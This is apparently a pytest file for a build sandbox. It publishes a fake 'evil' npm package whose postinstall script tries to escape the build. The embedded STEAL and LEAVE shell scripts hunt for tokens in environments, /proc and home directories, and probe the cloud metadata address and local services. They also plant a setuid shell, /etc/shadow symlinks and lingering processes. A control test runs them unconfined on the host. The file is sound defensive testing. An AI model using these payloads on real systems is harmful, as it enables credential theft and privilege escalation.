"""Install scripts of packages that a profile trusts, and of those that it does not, against the walls of a build.

Each script tries everything, writes down what it got, and leaves what it can. A plain shell on this host gets all of
it: that is the control.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from solven_env.errors import BuildError
from solven_env.packages import store
from solven_env.packages.ecosystems import bun
from solven_env.packages.ecosystems.bun import Bun
from tests.hostile.packages.test_packages import TOKEN, bring_bun, build_with, victim  # noqa: F401 (fixtures)
from tests.packages.registry import serve

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from solven_env.packages.making import Builder
    from solven_env.packages.toolchain import Toolchain
    from tests.packages.registry import Registry

pytestmark = pytest.mark.attack("packages")

# `got` becomes a line for each thing that was had; nothing of it stops the rest.
STEAL = """
exec 2>/dev/null
got() { echo "$*" >> "$OUT"; }
env | grep -q sesame && got token in the environment
cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep -q sesame && got token of a process
for place in $SEARCHED; do
    grep -rqsI sesame "$place" && got token in a file
done
grep -qs "only its owner may read" "$VICTIM" "/proc/1/root$VICTIM" "/oldroot$VICTIM" && got a file of the host
ls -A "$CACHE" | grep -q . && got the store
ls -A "$STORAGE" | grep -q . && got a thread
ls -A /run/solven-env/cache /run/solven-env/config | grep -qv : | grep -q . && got a cache
[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 20 ] && got the processes of the host
for at in $PLACES; do
    python3 -c 'import sys, urllib.request as u; u.urlopen(sys.argv[1], timeout=2)' "http://$at/stolen" && got "$at"
done
:
"""
LEAVE = """
ln -s /etc/shadow out; ln -s "$VICTIM" victim; ln -s ../../../../../.. up
cp /bin/sh owner; chmod 6755 owner
mkfifo pipe
python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("socket")'
mknod device c 1 3 && echo made a device >> "$OUT"
mkdir closed; echo kept > closed/file; chmod 0 closed
chmod 7777 .
setsid sh -c 'sleep 4444.4444; touch /node_modules/late' >/dev/null 2>&1 &
nohup sleep 4444.4444 >/dev/null 2>&1 &
:
"""
DEEP = "path=$(printf 'd/%.0s' $(seq 1500)); mkdir -p $path; cd $path; "


@pytest.fixture
def service() -> Iterator[str]:
    """A service of the host's on all of its addresses; nothing may have come to it. Its port."""
    with socket.create_server(("0.0.0.0", 0)) as server:
        yield str(server.getsockname()[1])
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()


def own_address() -> str:
    """An address of this host besides loopback, if it has one: nothing is sent."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        try:
            asked.connect(("198.51.100.2", 9))
        except OSError:
            return "127.0.0.1"
        return str(asked.getsockname()[0])


def names(victim: Path, cache: Path, registry: Registry, port: str, out: str) -> dict[str, str]:  # noqa: F811
    """What a thief knows of this host."""
    places = (registry.address.partition("//")[2], f"127.0.0.1:{port}", f"10.0.2.2:{port}", f"{own_address()}:{port}")
    return {
        "OUT": out,
        "VICTIM": str(victim),
        "CACHE": str(cache),
        "STORAGE": str(victim.parent / "storage"),
        "SEARCHED": f"{victim.parent}/home",
        "PLACES": " ".join(("localhost:" + port, "169.254.169.254", *places)),
    }


def exports(given: dict[str, str]) -> str:
    return "".join(f'export {name}="{value}"\n' for name, value in given.items())


def publish(registry: Registry, evil: str) -> None:
    registry.add_npm("evil", "1.0.0", files={"evil.sh": evil}, scripts={"postinstall": "sh evil.sh"})


def test_a_trusted_script_takes_nothing_and_leaves_files_and_links(
    build_with: Callable[..., Builder],  # noqa: F811
    host: Toolchain,
    victim: Path,  # noqa: F811
    directory: Path,
    service: str,
) -> None:
    (directory / "storage/threads/t1").mkdir(parents=True)
    (directory / "storage/threads/t1/file").write_text("of a thread")
    with serve() as registry:
        builder = build_with(registry)
        bring_bun(builder, host)
        home = Path(builder.host.environ["HOME"])
        (home / ".npmrc").write_text(f"//{registry.address.partition('//')[2]}/:_password={TOKEN}\n")
        shutil.copytree(home, directory / "home")
        given = names(victim, builder.host.cache, registry, service, "/node_modules/got")
        given["SEARCHED"] += " $HOME /run /etc /tmp /var /root /home /proc/1/root/root"
        publish(registry, exports(given) + STEAL + LEAVE)
        section = Bun({"evil": "1"}, ("evil",))
        made = bun.install(section, bun.resolve(section, b"", builder).text, builder)
        assert [path for path in registry.seen if "stolen" in path] == []
    assert not (made.tree / "got").exists(), (made.tree / "got").read_text()
    left = made.tree / "evil"
    assert [os.readlink(left / name) for name in ("out", "victim", "up")] == [
        "/etc/shadow",
        str(victim),
        "../" * 5 + "..",
    ]
    modes = {path.name: path.lstat().st_mode for path in (left, *left.iterdir())}
    assert {stat.S_IFMT(mode) for mode in modes.values()} == {stat.S_IFREG, stat.S_IFDIR, stat.S_IFLNK}
    assert all(not mode & 0o7000 for mode in modes.values())
    assert {"pipe", "socket", "device"}.isdisjoint(modes)
    assert (left / "closed/file").read_text() == "kept\n"
    assert store.is_whole(made)
    assert "4444.4444" not in subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    assert stat.S_IMODE(victim.stat().st_mode) == 0o600


def test_a_shell_of_the_host_takes_all_of_it(victim: Path, directory: Path) -> None:  # noqa: F811
    """The control: the same script, without a wall."""
    (directory / "storage").mkdir()
    (directory / "storage/file").write_text("of a thread")
    (directory / "cache").mkdir()
    (directory / "cache/build").write_text("of another")
    out = directory / "got"
    (directory / "home").mkdir()
    (directory / "home/.npmrc").write_text(TOKEN)
    with serve() as registry:
        registry.pages["/stolen"] = ("text/plain", b"a service")
        place = registry.address.partition("//")[2]
        given = {**names(victim, directory / "cache", registry, "1", str(out)), "PLACES": place}
        environ = {**given, "PATH": os.environ["PATH"], "KEY": TOKEN}
        subprocess.run(["sh", "-c", STEAL], env=environ, cwd=directory, check=True)
        got = set(out.read_text().splitlines())
        assert {"token in the environment", "token of a process", "token in a file", "a file of the host"} <= got
        assert {"the store", "a thread", place} <= got
        assert "the processes of the host" in got or len(list(Path("/proc").glob("[0-9]*"))) <= 20


def test_a_tree_that_nothing_can_go_down_is_refused_and_removed(
    build_with: Callable[..., Builder],  # noqa: F811
    host: Toolchain,
) -> None:
    with serve() as registry:
        builder = build_with(registry)
        bring_bun(builder, host)
        publish(registry, f"{DEEP}chmod 0 .; cd /node_modules/evil; chmod 0 d")
        section = Bun({"evil": "1"}, ("evil",))
        lock = bun.resolve(section, b"", builder).text
        with pytest.raises(BuildError, match="an install script left more than 128 directories above each other"):
            bun.install(section, lock, builder)
        assert [
            path.name for path in (builder.host.cache / "builds").iterdir() if not path.name.endswith(".lock")
        ] == []


@pytest.mark.parametrize("name", ["evil", "esbuild"])
def test_a_script_that_nobody_trusts_does_not_run(
    build_with: Callable[..., Builder],  # noqa: F811
    host: Toolchain,
    name: str,
) -> None:
    """Neither that of one which a trusted one brings along, nor of one that Bun trusts unasked (esbuild)."""
    run = {"scripts": dict.fromkeys(("preinstall", "install", "postinstall"), f"touch /node_modules/ran-{name}")}
    with serve() as registry:
        builder = build_with(registry)
        bring_bun(builder, host)
        registry.add_npm(name, "1.0.0", files={"binding.gyp": "{}"}, **run)  # type: ignore[arg-type]
        registry.add_npm("good", "1.0.0", needs={name: "1"}, scripts={"install": "touch /node_modules/ran-good"})
        section = Bun({"good": "1"}, ("good",))
        made = bun.install(section, bun.resolve(section, b"", builder).text, builder)
    assert sorted(path.name for path in made.tree.glob("ran-*")) == ["ran-good"]
    assert [each.package for each in bun.remarks(made)] == [name]


@pytest.mark.parametrize("is_bundled", [False, True])
def test_a_tarball_that_brings_a_trusted_name_along_is_not_trusted(
    build_with: Callable[..., Builder],  # noqa: F811
    host: Toolchain,
    is_bundled: bool,
) -> None:
    """Where the lock has the trusted package itself in there, it is what runs, and nothing that lay there before."""
    fake = json.dumps({"name": "good", "version": "1.0.0", "scripts": {"install": "touch /node_modules/ran-evil"}})
    planted = {
        "node_modules/good/package.json": fake,
        "node_modules/good/install.sh": "touch /node_modules/ran-evil",
        "node_modules/good/node_modules/helper/package.json": '{"name": "helper"}',
    }
    bundled = {"bundledDependencies": ["good"]} if is_bundled else {}
    with serve() as registry:
        builder = build_with(registry)
        bring_bun(builder, host)
        script = "if [ -e install.sh ] || [ -e node_modules ]; then touch /node_modules/ran-evil; fi; touch /node_modules/ran-good"
        for version in ("1.0.0", "2.0.0"):
            registry.add_npm("good", version, scripts={"install": script})
        registry.add_npm("evil", "1.0.0", files=planted, needs={"good": "1.0.0"}, **bundled)  # type: ignore[arg-type]
        section = Bun({"good": "2.0.0", "evil": "1"}, ("good",))
        made = bun.install(section, bun.resolve(section, b"", builder).text, builder)
    assert sorted(path.name for path in made.tree.glob("ran-*")) == ["ran-good"]
    assert (made.tree / "evil/node_modules/good/install.sh").exists() == is_bundled
